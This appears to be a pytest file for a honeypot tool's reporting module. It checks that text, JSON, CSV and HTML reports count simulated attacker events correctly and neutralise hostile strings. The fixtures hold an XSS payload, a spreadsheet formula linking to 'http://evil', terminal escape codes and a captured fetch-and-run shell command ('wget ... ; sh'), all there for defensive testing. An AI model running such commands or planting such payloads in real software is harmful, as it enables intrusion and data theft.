"""Reports on SQLite and PostgreSQL: each section's numbers, every format parsed back, hostile strings.

Also the findings/alerts schema (migration 0003 equals the models, and goes down and up
again) and the `report` and `findings` commands.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import click
import pytest
from click.testing import CliRunner

from dynapot.analysis.report import build_report, render
from dynapot.analysis.report.queries import bucket_size
from dynapot.cli.common import parse_when
from dynapot.cli.reports import register
from dynapot.db.models import Alert, HoneypotEvent, Host, OperatingSystem, Port

NOW = datetime(2027, 3, 1, 12, 0, tzinfo=UTC)
SINCE = NOW - timedelta(hours=1)
ATTACKER = "203.0.113.66"
VISITOR = "100.64.0.9"
VIRTUAL = ["198.18.0.10", "198.18.0.11", "198.18.0.12"]
XSS = "<script>alert('pw')</script>"
FORMULA = '=HYPERLINK("http://evil")'
MARKUP = "[bold]x[/nope] \x1b[31mred"


def at(minutes: float) -> datetime:
    return NOW - timedelta(minutes=minutes)


def event(when, src, dst, port, kind, detail=None, data=None, **extra):
    return HoneypotEvent(
        time=when,
        protocol=extra.pop("protocol", "tcp"),
        src_ip=src,
        src_port=40000,
        dst_ip=dst,
        dst_port=port,
        kind=kind,
        detail=detail,
        data=data,
        **extra,
    )


def populate(db) -> None:
    with db.session() as session:
        win = OperatingSystem(name="Windows 7", family="Windows")
        linux = OperatingSystem(name="Linux 4.X", family="Linux")
        session.add_all([win, linux])
        session.flush()
        for i, ip in enumerate(["198.18.0.2", "198.18.0.3", "198.18.0.4"]):
            session.add(
                Host(ip=ip, os_id=win.id if i else linux.id, tool="nmap", first_seen=NOW, last_seen=NOW)
            )
        for i, ip in enumerate(VIRTUAL):
            host = Host(
                ip=ip,
                is_virtual=True,
                os_id=win.id if i < 2 else linux.id,
                personality="Microsoft Windows 7 SP1" if i < 2 else "Linux 4.15 - 5.8",
                tool="deploy",
                first_seen=NOW,
                last_seen=NOW,
            )
            host.ports = [
                Port(protocol="tcp", port=22, state="open", service="ssh", tool="deploy", seen_at=NOW),
                Port(
                    protocol="tcp", port=445, state="open", service="microsoft-ds", tool="deploy", seen_at=NOW
                ),
            ]
            session.add(host)
        rows = []
        # An nmap -O scan of the three virtual hosts, 30 ports each.
        for h, ip in enumerate(VIRTUAL):
            for port in range(1, 31):
                rows.append(
                    event(at(50 - h), ATTACKER, ip, port, "probe", "S closed", attacker_os="Linux 2.2.x-3.x")
                )
        rows.append(event(at(47), ATTACKER, "0.0.0.0", None, "os-scan", "nmap OS detection probes"))
        rows.append(
            event(
                at(46.5),
                ATTACKER,
                VIRTUAL[0],
                22,
                "connect",
                scan_tool="nmap OS scan",
                attacker_os="Linux 2.2.x-3.x",
            )
        )
        # Password guessing on SSH, with hostile strings as passwords; the last one is accepted.
        passwords = [f"pw{i}" for i in range(9)] + [XSS, FORMULA, MARKUP]
        for i, password in enumerate(passwords):
            accepted = i == len(passwords) - 1
            rows.append(
                event(
                    at(40 - i * 0.1),
                    ATTACKER,
                    VIRTUAL[0],
                    22,
                    "login",
                    f"root:{password}",
                    {"user": "root", "password": password, "accepted": accepted},
                    scan_tool="nmap OS scan",
                )
            )
        rows.append(event(at(38), ATTACKER, VIRTUAL[0], 22, "command", "wget http://x/<b>.sh; sh"))
        rows.append(
            event(
                at(37),
                ATTACKER,
                VIRTUAL[0],
                22,
                "login-key",
                "root:SHA256:abc",
                {"user": "root", "key_type": "ssh-ed25519", "fingerprint": "SHA256:abc", "accepted": False},
            )
        )
        # A visitor and a request; a sensor notice; one event before the period.
        rows.append(
            event(at(20), VISITOR, VIRTUAL[1], 80, "request", "GET /index.html", {"user_agent": "curl"})
        )
        rows.append(event(at(10), VISITOR, VIRTUAL[1], None, "echo", "8(0): replied", protocol="icmp"))
        rows.append(event(at(5), "0.0.0.0", "0.0.0.0", None, "events-lost", "3 events lost: queue full"))
        rows.append(event(at(120), "192.0.2.99", VIRTUAL[2], 23, "connect"))
        session.add_all(rows)


def add_findings_and_alert(db) -> None:
    from dynapot.analysis.findings import store_findings
    from dynapot.analysis.stored import correlate_stored
    from dynapot.db.models import Finding

    store_findings(db, correlate_stored(db))
    with db.session() as session:
        brute = session.query(Finding).filter(Finding.kind == "brute-force").one()
        session.add(
            Alert(
                finding_id=brute.id,
                time=at(39),
                channel="mailto://soc@example.org",
                status="sent",
                attempts=1,
                message=f"critical: brute force, password {XSS}",
            )
        )


@pytest.fixture
def report_db(db):
    populate(db)
    add_findings_and_alert(db)
    return db


def test_sections_count_what_happened(report_db):
    data = build_report(report_db, SINCE, NOW, now=NOW)
    t = data.totals
    assert t["events"] == 90 + 2 + 12 + 1 + 1 + 2  # the notice and the older event are not counted
    assert t["sources"] == 2 and t["honeypots"] == 3
    assert (t["logins"], t["commands"], t["requests"], t["sensor_notices"]) == (13, 1, 1, 1)
    assert t["findings"] == 2 and t["alerts"] == 1  # a scan and a brute force; no worm here

    s = data.sections
    top = s["honeypots"][0]
    assert top["address"] == VIRTUAL[0] and top["virtual"] is True and top["os"] == "Windows 7"
    assert top["events"] == 30 + 1 + 12 + 1 + 1 and top["source_count"] == 1
    assert top["ports"][0] == "22/tcp" and len(top["ports"]) == 10

    attacker, visitor = s["sources"]
    assert attacker["address"] == ATTACKER and attacker["os"] == "Linux 2.2.x-3.x"
    assert attacker["tool"] == "nmap OS scan" and attacker["honeypot_count"] == 3
    assert attacker["port_count"] == 30 and attacker["login_count"] == 13
    assert visitor == {
        "address": VISITOR,
        "os": None,
        "tool": None,
        "events": 2,
        "honeypot_count": 1,
        "port_count": 1,  # the ping has no port
        "login_count": 0,
        "first_seen": at(20).isoformat(),
        "last_seen": at(10).isoformat(),
    }

    ports = {(p["protocol"], p["port"]): p for p in s["ports"]}
    assert ports[("tcp", 22)]["service"] == "ssh" and ports[("tcp", 22)]["events"] == 3 + 1 + 14
    assert ports[("tcp", 80)]["service"] == "http"  # not in the inventory: the system's services file

    creds = s["credentials"]
    assert len(creds) == 13 and [c["secret"] for c in creds[9:12]] == [XSS, FORMULA, MARKUP]
    assert creds[11]["accepted"] is True and creds[0]["accepted"] is False
    assert creds[12]["kind"] == "login-key" and creds[12]["secret"] == "SHA256:abc"
    assert creds[0]["service"] == "ssh" and creds[0]["user"] == "root"
    assert [(c["kind"], c["command"]) for c in s["commands"]] == [
        ("command", "wget http://x/<b>.sh; sh"),
        ("request", "GET /index.html"),
    ]

    findings = {f["kind"]: f for f in s["findings"]}
    assert set(findings) == {"scan", "brute-force"}
    assert findings["brute-force"]["risk"] == "critical" and findings["scan"]["risk"] == "medium"
    assert findings["scan"]["targets"] == VIRTUAL
    (alert,) = s["alerts"]
    assert alert["finding"] == findings["brute-force"]["key"] and alert["status"] == "sent"

    assert data.bucket_seconds == 60 and len(s["timeline"]) == 60
    assert sum(b["events"] for b in s["timeline"]) == t["events"]
    assert s["timeline"][0]["start"] == SINCE.isoformat()
    assert {(o["virtual"], o["os"]): o["hosts"] for o in s["os_mix"]} == {
        (False, "Windows 7"): 2,
        (False, "Linux 4.X"): 1,
        (True, "Windows 7"): 2,
        (True, "Linux 4.X"): 1,
    }

    limited = build_report(report_db, SINCE, NOW, limit=1, rows=2, now=NOW)
    assert len(limited.sections["sources"]) == 1 and len(limited.sections["credentials"]) == 2
    assert limited.sections["credentials"][-1]["kind"] == "login-key"  # the latest ones
    assert limited.totals["logins"] == 13  # totals stay exact


def test_json_and_csv_parse_back(report_db):
    data = build_report(report_db, SINCE, NOW, now=NOW)
    parsed = json.loads(render(data, "json"))
    assert parsed["period"]["since"] == SINCE.isoformat() and parsed["totals"] == data.totals
    assert parsed["credentials"][9]["secret"] == XSS
    assert [f["kind"] for f in parsed["findings"]] == [f["kind"] for f in data.sections["findings"]]

    rows = list(csv.DictReader(io.StringIO(render(data, "csv"))))
    sections = {}
    for row in rows:
        sections.setdefault(row["section"], []).append(row)
    assert {r["name"]: r["value"] for r in sections["totals"]}["events"] == str(data.totals["events"])
    assert len(sections["sources"]) == 2 and sections["sources"][0]["address"] == ATTACKER
    assert sections["credentials"][9]["secret"] == XSS
    # A formula is neutralised, markup stays as typed, a terminal escape is shown, not sent.
    assert sections["credentials"][10]["secret"] == "'" + FORMULA
    assert sections["credentials"][11]["secret"] == MARKUP.replace("\x1b", "\\x1b")
    assert sections["credentials"][11]["accepted"] == "true"
    assert "\x1b" not in render(data, "csv") and "\x1b" not in render(data, "json")
    assert sections["honeypots"][0]["ports"].split()[0] == "22/tcp"
    assert len(sections["timeline"]) == 60 and len(sections["os_mix"]) == 4
    assert sections["findings"][0]["targets"] == " ".join(VIRTUAL)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []
        self.svg_titles: list[str] = []
        self._in_svg_title = False
        self.depth = 0

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "title" and "svg" in self.tags[:-1]:
            self._in_svg_title = True

    def handle_endtag(self, tag):
        self._in_svg_title = False

    def handle_data(self, data):
        self.text.append(data)
        if self._in_svg_title:
            self.svg_titles.append(data)


def test_html_is_self_contained_with_charts_and_escapes_attacker_strings(report_db):
    page = render(build_report(report_db, SINCE, NOW, now=NOW), "html")
    parser = _Page()
    parser.feed(page)
    parser.close()
    assert "script" not in parser.tags  # the captured <script> is text, not an element
    assert "<script>" not in page and "&lt;script&gt;alert(&#x27;pw&#x27;)&lt;/script&gt;" in page
    text = "".join(parser.text)
    assert (
        XSS in text
        and "wget http://x/<b>.sh; sh" in text
        and "critical: brute force, password " + XSS in text
    )
    assert "\x1b" not in page and "\\x1b[31mred" in text  # no terminal escapes either
    assert parser.tags.count("svg") == 4
    for title in ("Activity over time", "Top sources by events", "Top ports by events", "Real and virtual"):
        assert any(t.startswith(title) for t in parser.svg_titles), title
    assert "rect" in parser.tags
    # Nothing is fetched from elsewhere.
    assert "http-equiv" in page and "default-src 'none'" in page
    for attr in ("src=", "href="):
        assert attr not in page.replace("http://x/", "")


def test_text_report_shows_markup_as_typed(report_db):
    text = render(build_report(report_db, SINCE, NOW, now=NOW), "text")
    assert "[bold]x[/nope]" in text and "\x1b" not in text and "\\x1b" in text
    assert ATTACKER in text and "Findings" in text and "critical" in text
    assert "Linux 2.2.x-3.x" in text and "SHA256:abc" in text


def test_empty_period_and_bad_periods(db):
    data = build_report(db, SINCE, NOW, now=NOW)
    assert data.totals["events"] == 0 and all(b["events"] == 0 for b in data.sections["timeline"])
    for fmt in ("text", "json", "csv", "html"):
        assert render(data, fmt)
    with pytest.raises(ValueError):
        build_report(db, NOW, SINCE)
    with pytest.raises(ValueError):
        render(data, "pdf")


def test_bucket_sizes_and_times():
    assert bucket_size(SINCE, NOW) == 60
    assert bucket_size(NOW - timedelta(days=1), NOW) == 900
    assert bucket_size(NOW - timedelta(days=30), NOW) == 6 * 3600
    assert parse_when("90m", NOW) == NOW - timedelta(minutes=90)
    assert parse_when("7d", NOW) == NOW - timedelta(days=7)
    assert parse_when("2027-03-01T10:00", NOW) == datetime(2027, 3, 1, 10, 0, tzinfo=UTC)
    assert parse_when("2027-03-01T10:00+02:00", NOW) == datetime(2027, 3, 1, 8, 0, tzinfo=UTC)
    for bad in ("yesterday", "10 parsecs", "-5m", "99999999999d"):
        with pytest.raises(ValueError):
            parse_when(bad, NOW)


def test_migration_matches_the_models_and_goes_down_and_up(db):
    from alembic import command
    from alembic.autogenerate import compare_metadata
    from alembic.migration import MigrationContext
    from sqlalchemy import inspect

    from dynapot.db.engine import alembic_config, upgrade
    from dynapot.db.models import Base

    with db.engine.connect() as connection:
        context = MigrationContext.configure(connection, opts={"compare_type": True})
        assert compare_metadata(context, Base.metadata) == []
    command.downgrade(alembic_config(db.engine), "0002")
    assert not {"findings", "alerts"} & set(inspect(db.engine).get_table_names())
    upgrade(db.engine)
    assert {"findings", "alerts"} <= set(inspect(db.engine).get_table_names())


def test_deleting_a_finding_keeps_its_alerts(report_db):
    from sqlalchemy import delete, select

    from dynapot.db.models import Finding

    with report_db.session() as session:
        session.execute(delete(Finding).where(Finding.kind == "brute-force"))
    with report_db.session() as session:
        (alert,) = session.scalars(select(Alert)).all()
        assert alert.finding_id is None and alert.status == "sent"


@pytest.fixture
def cli(db_url):
    group = click.Group()
    register(group)
    runner = CliRunner()

    def invoke(*args):
        return runner.invoke(group, [*args, "--db", db_url], catch_exceptions=False)

    return invoke


def test_commands(cli, db_url, tmp_path):
    from dynapot.db import open_database

    database = open_database(db_url)
    try:
        populate(database)
    finally:
        database.dispose()
    since = SINCE.isoformat()
    until = NOW.isoformat()
    result = cli("findings", "--since", since, "--until", until, "--json")
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert sorted(f["kind"] for f in lines) == ["brute-force", "scan"]
    assert "stored" not in result.stderr  # looking is not storing
    stored = cli("findings", "--since", since, "--until", until, "--store")
    assert "stored: 2 findings added, 0 updated" in stored.stderr
    again = cli("findings", "--since", since, "--until", until, "--store")
    assert "stored: 0 findings added, 2 updated" in again.stderr and "brute-force" in again.stdout

    out = tmp_path / "report.json"
    result = cli("report", "--since", since, "--until", until, "--format", "json", "-o", str(out))
    assert result.exit_code == 0, result.output
    report = json.loads(out.read_text())
    assert report["totals"]["findings"] == 2 and report["totals"]["events"] == 108
    result = cli("report", "--since", since, "--until", until, "--format", "csv")
    assert result.stdout.startswith("section,name,value,")

    bad = cli("report", "--since", "last tuesday")
    assert bad.exit_code == 2 and "neither a duration" in bad.output
    empty = cli("report", "--since", until, "--until", since)
    assert empty.exit_code == 2 and "period is empty" in empty.output


def test_folded_noise_counts_as_the_packets_it_stands_for(db):
    """The sensor folds repeated noise into one row with a `count`: the report counts the packets."""
    flood = [
        event(at(30), VISITOR, VIRTUAL[0], 5353, "probe", "closed", protocol="udp"),
        event(
            at(29),
            VISITOR,
            VIRTUAL[0],
            5353,
            "probe",
            "closed: 9999 more in 59.0 s",
            {"count": 9999, "first": "x", "last": "y"},
            protocol="udp",
        ),
        event(at(28), VISITOR, VIRTUAL[1], None, "echo", "8(0): replied", protocol="icmp"),
        event(
            at(27),
            VISITOR,
            VIRTUAL[1],
            None,
            "echo",
            "8(0): replied: 99 more in 1.0 s",
            {"count": 99},
            protocol="icmp",
        ),
        # A count on anything but noise means nothing to the report.
        event(at(26), VISITOR, VIRTUAL[1], 80, "request", "GET /", {"count": 1000}),
    ]
    with db.session() as session:
        session.add_all(flood)
    data = build_report(db, SINCE, NOW, now=NOW)
    t = data.totals
    assert (t["events"], t["probes"]) == (10_000 + 100 + 1, 10_000)
    assert sum(b["events"] for b in data.sections["timeline"]) == t["events"]
    assert {r["address"]: r["events"] for r in data.sections["honeypots"]} == {
        VIRTUAL[0]: 10_000,
        VIRTUAL[1]: 101,
    }
    assert data.sections["sources"][0]["events"] == t["events"]
    assert data.sections["ports"][0]["port"] == 5353 and data.sections["ports"][0]["events"] == 10_000
    assert "10101 events" in render(data, "text")
